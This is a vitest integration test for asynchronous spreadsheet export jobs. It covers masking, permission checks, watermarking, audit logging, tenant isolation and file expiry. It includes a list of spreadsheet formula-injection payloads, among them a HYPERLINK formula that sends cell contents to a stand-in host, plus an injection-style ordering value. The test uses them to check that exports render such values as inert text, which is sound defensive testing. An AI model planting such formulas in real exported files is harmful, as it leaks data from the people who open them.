import { existsSync, readdirSync } from "node:fs";
import path from "node:path";
import ExcelJS from "exceljs";
import { beforeAll, expect, it } from "vitest";
import { exportJobStates } from "../../src-shared/records/exports/export-job-states.ts";
import { begin, cellsOf, ended, fetchFile, type JobRow } from "./exports-kit.ts";
import { onEveryDatabase } from "./harness.ts";
import { insert, makeSmallWorld, openSession, send } from "./small-world.ts";

const maker = 1002;
const companyAdmin = 1005;
const columns = [
  "no",
  "labor_name",
  "id_no",
  "labor_phone",
  "labor_bank_account",
  "accounting_fee",
  "remark",
  "create_at",
];
const hostile = ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "＝1+1", '","=1+1,"', '=HYPERLINK("http://x/"&A1,"k")'];

onEveryDatabase("exports as jobs", {}, (started) => {
  const running = () => started().running();
  let token = "";
  let clear = "";

  beforeAll(async () => {
    await makeSmallWorld(running());
    token = await openSession(running(), maker);
    await insert(running(), "users", { id: 1020, mobile: "13900000020", name: "税务", status: 1 });
    await insert(running(), "memberships", { id: 2020, user_id: 1020, agency_id: 1, roles: "taxOfficer", is_use: 1 });
    clear = await openSession(running(), 1020);
    for (const [at, remark] of hostile.entries()) {
      await running()
        .service.writing.updateTable("bills")
        .set({ remark })
        .where("id", "=", at < 4 ? 1101 + at : 1201 + at - 4)
        .execute();
    }
  });

  const rowsOf = async (id: string, as = token): Promise<string[][]> => {
    expect((await ended(running(), as, id))["status"]).toBe(exportJobStates.code("done"));
    return cellsOf((await fetchFile(running(), as, id)).bytes);
  };

  it("writes the matching rows in order, masked, inert, numbers as numbers", async () => {
    const id = await begin(running(), token, { columns, ordering: "no", matching: { company_id: "11" } });
    const [titles, ...rows] = await rowsOf(id);
    expect(titles).toHaveLength(columns.length);
    expect(rows.map((row) => row[0])).toEqual(["text:ZD1101", "text:ZD1102", "text:ZD1103", "text:ZD1104"]);
    expect(rows[0]?.slice(1, 5)).toEqual([
      "text:张*三",
      "text:110105********002X",
      "text:138****5678",
      "text:6212 **** 5221",
    ]);
    expect(rows.map((row) => row[5])).toEqual(["number:100.00", "number:200.00", "number:300.00", "number:400.00"]);
    const ids = ["1101", "1102", "1103", "1104", "1201", "1202", "1203", "1204"];
    const all = await rowsOf(await begin(running(), token, { columns: ["remark"], ordering: "no", ids }));
    expect(all.slice(1).flat()).toEqual(hostile.map((text) => `text:${text}`));
  });

  it("takes chosen rows, all less some, and refuses ids of others like absent ones", async () => {
    const some = await begin(running(), token, { columns: ["no"], ids: ["1102", "1201"], ordering: "no" });
    expect((await rowsOf(some)).slice(1)).toEqual([["text:ZD1102"], ["text:ZD1201"]]);
    const less = await begin(running(), token, {
      columns: ["no"],
      matching: { company_id: "11" },
      except: ["1102", "1103"],
      ordering: "-no",
    });
    expect((await rowsOf(less)).slice(1)).toEqual([["text:ZD1104"], ["text:ZD1101"]]);
    for (const field of ["ids", "except"]) {
      const refused = async (other: string) =>
        send(running(), "POST", "/cdl/1/bills/asyn_export", {
          token,
          body: { columns: ["no"], [field]: ["1102", other] },
        });
      const [foreign, absent] = [await refused("2101"), await refused("987654321")];
      expect([foreign.status, foreign.text]).toEqual([404, absent.text]);
    }
  });

  it("refuses what it could not write, before there is a job", async () => {
    const refused = async (body: Record<string, unknown>) => {
      const { status, body: answerBody } = await send(running(), "POST", "/cdl/1/bills/asyn_export", { token, body });
      return [status, answerBody["code"]];
    };
    const before = await running().db.selectFrom("export_jobs").select("id").execute();
    expect(await refused({ columns: ["no", "secret"] })).toEqual([400, "invalid"]);
    expect(await refused({ columns: ["version"] })).toEqual([400, "invalid"]);
    expect(await refused({ columns: [] })).toEqual([400, "invalid"]);
    expect(await refused({ columns: ["no"], ordering: "no;drop" })).toEqual([400, "invalid"]);
    expect(await refused({ columns: ["no"], matching: { tenant: "2" } })).toEqual([400, "invalid"]);
    expect(await refused({ columns: ["no"], matching: { status: "x" } })).toEqual([400, "invalid"]);
    expect(await refused({ columns: ["no"], matching: { status: "90" } })).toEqual([409, "nothing_to_export"]);
    expect(await refused({ columns: ["no"], direction: 3 })).toEqual([400, "invalid"]);
    expect(await running().db.selectFrom("export_jobs").select("id").execute()).toEqual(before);
  });

  it("gives personal data in clear only with the permission and a reason, and keeps both", async () => {
    const body = { columns, ids: ["1101"], protect_id_no: false };
    const ask = (as: string, more = {}) =>
      send(running(), "POST", "/cdl/1/bills/asyn_export", { token: as, body: { ...body, ...more } });
    expect((await ask(token, { reason: "报税" })).status).toBe(403);
    expect((await ask(clear)).body["fields"]).toEqual({ reason: ["missing"] });
    const id = await begin(running(), clear, { ...body, reason: "报送税务局" });
    const [, row] = await rowsOf(id, clear);
    expect(row?.slice(1, 5)).toEqual([
      "text:张小三",
      "text:11010519491231002X",
      "text:138****5678",
      "text:6212 **** 5221",
    ]);
    const entry = await running()
      .db.selectFrom("audit_log")
      .selectAll()
      .where("object", "=", `exportJob:${id}`)
      .where("action", "=", "exports.start")
      .executeTakeFirstOrThrow();
    expect([entry.reason, JSON.parse(entry.after)]).toEqual([
      "报送税务局",
      expect.objectContaining({
        protect_id_no: 0,
        protect_mobile: 1,
        watermark: expect.stringMatching(/^FD-[0-9A-F]{16}$/),
      }),
    ]);
  });

  it("marks each copy for its person, in the notes and in the file's properties", async () => {
    const id = await begin(running(), token, { columns: ["no"], ids: ["1101"] });
    const job = await ended(running(), token, id);
    const { bytes, headers } = await fetchFile(running(), token, id);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(bytes as never);
    const notes = book.worksheets[1]?.getSheetValues() as [unknown, string, string][];
    const notesByItem = new Map(notes.filter(Boolean).map(([, item, content]) => [item, content]));
    expect(notesByItem.get("水印编号")).toBe(job["watermark"]);
    expect(notesByItem.get("导出任务号")).toBe(job["no"]);
    expect(notesByItem.get("行数")).toBe("1");
    expect(Number(notesByItem.get("数据版本号"))).toBeGreaterThan(0);
    expect(bytes.includes("docProps/core.xml")).toBe(true);
    expect(headers["content-disposition"]).toMatch(/filename\*=UTF-8''%E8%B4%A6%E5%8D%95-\d{8}-\d{6}\.xlsx$/);
    const { body } = await send(running(), "GET", `/cdl/1/export_jobs/${id}`, { token });
    expect((body["job"] as JobRow)["downloaded_count"]).toBe(1);
    const logged = await running()
      .db.selectFrom("audit_log")
      .select("after")
      .where("action", "=", "exports.download")
      .where("object", "=", `exportJob:${id}`)
      .execute();
    expect(logged.map(({ after }) => JSON.parse(after).watermark)).toEqual([job["watermark"]]);
  });

  it("shows a person their own jobs and nobody else's", async () => {
    const id = await begin(running(), token, { columns: ["no"] });
    await ended(running(), token, id);
    const other = await openSession(running(), companyAdmin);
    const own = await begin(running(), other, { columns: ["no"] });
    // A company's person gets the company's rows, whatever the filter says.
    expect((await rowsOf(own, other)).slice(1)).toHaveLength(4);
    const { body } = await send(running(), "GET", "/cdl/1/export_jobs", { token: other });
    expect((body["results"] as JobRow[]).map((job) => job["id"])).toEqual([own]);
    for (const [method, url] of [
      ["GET", `/cdl/1/export_jobs/${id}`],
      ["GET", `/cdl/1/export_jobs/${id}/file`],
      ["POST", `/cdl/1/export_jobs/${id}/cancel`],
    ] as const) {
      expect((await send(running(), method, url, { token: other })).status).toBe(404);
    }
  });

  it("exports settlements by a query and transactions by a body", async () => {
    const query = new URLSearchParams({
      columns: "no,status,company_payable",
      company_id: "11",
      direction: "2",
      locale: "en",
    });
    const answer = await send(running(), "GET", `/cdl/1/settlements/asyn_export?${query}`, { token });
    expect(answer.status).toBe(200);
    const rows = await rowsOf(String((answer.body["job"] as JobRow)["id"]));
    expect(rows.map((row) => row[1])).toEqual(["text:1", "text:JS11", "text:To review", "number:0.00"]);
    const foreign = await send(running(), "GET", "/cdl/1/settlements/asyn_export?columns=no&chosen_ids=2150", {
      token,
    });
    const absent = await send(running(), "GET", "/cdl/1/settlements/asyn_export?columns=no&chosen_ids=98765", {
      token,
    });
    expect([foreign.status, foreign.text]).toEqual([404, absent.text]);
    const none = await send(running(), "POST", "/cdl/1/transactions/asyn_export", { token, body: { columns: ["no"] } });
    expect([none.status, none.body["code"]]).toEqual([409, "nothing_to_export"]);
  });

  it("removes files after seven days and says so", async () => {
    const id = await begin(running(), token, { columns: ["no"] });
    await ended(running(), token, id);
    const folder = path.join(started().folder, "storage", "exports");
    expect(existsSync(path.join(folder, `${id}.xlsx`))).toBe(true);
    started().clock.advance(7 * 86_400_000);
    token = await openSession(running(), maker);
    await expect.poll(() => existsSync(path.join(folder, `${id}.xlsx`))).toBe(false);
    const status = async () => {
      const { body } = await send(running(), "GET", `/cdl/1/export_jobs/${id}`, { token });
      return (body["job"] as JobRow)["status"];
    };
    await expect.poll(status).toBe(exportJobStates.code("expired"));
    const gone = await fetchFile(running(), token, id);
    expect([gone.status, JSON.parse(gone.bytes.toString()).code]).toEqual([409, "illegal_transition"]);
    expect(readdirSync(folder).filter((name) => name.startsWith(`${id}.`))).toEqual([]);
  });
});
